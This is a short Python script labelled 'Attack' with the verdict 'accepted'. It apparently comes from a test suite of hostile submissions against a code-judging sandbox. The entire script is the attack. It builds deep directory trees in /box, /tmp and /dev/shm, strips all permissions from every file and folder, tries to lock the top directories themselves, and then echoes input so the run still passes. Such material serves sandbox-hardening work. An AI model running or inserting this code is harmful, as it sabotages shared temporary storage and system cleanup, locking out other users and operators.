# Attack: a deep tree of folders that nobody may enter, read or write, its owner included, and files that nobody may touch.
# Verdict: accepted
import os

for top in ['/box', '/tmp', '/dev/shm']:
    path, made = top, []
    for depth in range(60):
        path += '/d'
        os.mkdir(path)
        open(path + '/f', 'w').write('x')
        os.chmod(path + '/f', 0)
        made.append(path)
    for path in reversed(made):
        os.chmod(path, 0)
    try:
        os.chmod(top, 0)
    except OSError:
        pass
print('unharmed', input())
